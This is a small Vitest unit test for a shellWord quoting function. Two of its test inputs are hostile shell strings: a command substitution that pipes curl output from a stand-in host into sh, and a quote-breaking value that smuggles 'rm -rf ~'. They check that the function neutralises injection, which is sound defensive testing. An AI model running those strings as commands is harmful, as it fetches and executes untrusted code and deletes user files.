import { describe, expect, it } from 'vitest';
import { shellWord } from './shellWord';

describe('shellWord', () => {
  it('leaves plain names alone and quotes anything the shell would interpret', () => {
    expect(shellWord('argo-events')).toBe('argo-events');
    expect(shellWord('svc/webhook-eventsource-svc')).toBe('svc/webhook-eventsource-svc');
    expect(shellWord('$(curl evil.sh|sh)')).toBe("'$(curl evil.sh|sh)'");
    expect(shellWord("a'b; rm -rf ~")).toBe("'a'\\''b; rm -rf ~'");
    expect(shellWord('')).toBe("''");
  });
});
